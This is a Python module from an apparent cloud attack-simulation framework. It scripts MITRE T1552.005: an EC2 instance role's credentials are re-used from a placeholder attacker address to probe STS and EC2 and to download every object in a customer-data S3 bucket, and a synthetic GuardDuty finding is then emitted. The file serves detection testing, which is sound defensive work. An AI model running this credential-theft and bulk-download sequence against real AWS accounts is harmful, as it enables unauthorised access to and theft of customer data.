"""Steal the web instance's role credentials and use them from outside AWS."""

from __future__ import annotations

from cloudsoc.aws.session import client
from cloudsoc.simulate.technique import ATTACKER_IP, Ctx, Json, Technique, technique
from cloudsoc.simulate.techniques.credential_access._ec2 import INSTANCE_SDK_AGENT, ec2_denied

ROLE = "web-app-role"
FINDING = "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS"


@technique
class Ec2StealInstanceCredentials(Technique):
    title = "Steal EC2 instance credentials"
    attack = ("T1552.005",)
    expects = ("ec2_instance_credentials_used_outside_vpc",)
    description = (
        "The web application reads its release from S3 through the VPC's gateway endpoint, as every "
        "day; its role credentials, taken from the instance metadata service, are then used from the "
        "intruder's machine to learn who they are, try EC2 and list and download S3 buckets. GuardDuty "
        "raises InstanceCredentialExfiltration.OutsideAWS."
    )
    synthetic = ("ec2:DescribeInstances",)  # refused: the role may only read S3

    def warmup(self, ctx: Ctx) -> Json:
        web = ctx.res["instances"]["web"]
        found = client("ec2", session=ctx.admin()).describe_instances(InstanceIds=[web])
        return {"instance": web, "private_ip": found["Reservations"][0]["Instances"][0]["PrivateIpAddress"]}

    def detonate(self, ctx: Ctx, state: Json) -> None:
        # The application on the instance, through the S3 gateway endpoint (hence its private address).
        app = ctx.instance_role(ROLE, actor=ctx.actor(state["private_ip"], INSTANCE_SDK_AGENT))
        client("s3", session=app).get_object(
            Bucket=ctx.res["buckets"]["artifacts"], Key="releases/app-1.4.2.zip"
        )
        creds = app.get_credentials()
        assert creds is not None
        stolen = ctx.with_key(creds.access_key, creds.secret_key, creds.token)
        client("sts", session=stolen).get_caller_identity()
        ec2_denied(ctx, stolen, "DescribeInstances", {})
        s3 = client("s3", session=stolen)
        s3.list_buckets()
        bucket = ctx.res["buckets"]["customer-data"]
        for obj in s3.list_objects_v2(Bucket=bucket).get("Contents", []):
            s3.get_object(Bucket=bucket, Key=obj["Key"])
        self._finding(ctx, creds.access_key, state["instance"])

    @staticmethod
    def _finding(ctx: Ctx, access_key: str, instance: str) -> None:
        """What GuardDuty raises when instance-only credentials are used from outside AWS."""
        ident = ctx.recorder.identities[access_key]
        resource = {"resourceType": "AccessKey",
                    "accessKeyDetails": {"accessKeyId": access_key, "principalId": ident["principalId"],
                                         "userName": ROLE, "userType": "AssumedRole"}}  # fmt: skip
        action = {"actionType": "AWS_API_CALL",
                  "awsApiCallAction": {"api": "ListBuckets", "serviceName": "s3.amazonaws.com",
                                       "callerType": "Remote IP", "remoteIpDetails": {"ipAddressV4": ATTACKER_IP}}}  # fmt: skip
        ctx.guardduty_finding(
            FINDING, 8.0, f"Credentials for instance role {ROLE} used from external IP address.",
            f"Credentials created exclusively for EC2 instance {instance} through instance role {ROLE} "
            f"have been used from external IP address {ATTACKER_IP}.", resource, action,
        )  # fmt: skip
